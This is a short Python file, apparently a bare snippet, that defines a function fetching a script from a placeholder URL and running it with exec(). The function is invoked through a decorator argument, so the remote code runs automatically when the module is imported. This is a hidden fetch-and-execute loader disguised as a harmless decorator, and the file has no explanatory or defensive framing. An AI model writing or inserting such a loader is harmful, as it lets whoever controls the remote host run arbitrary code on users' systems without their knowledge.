import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


def deco(x):
    return lambda f: f


@deco(_go())
def f():
    pass
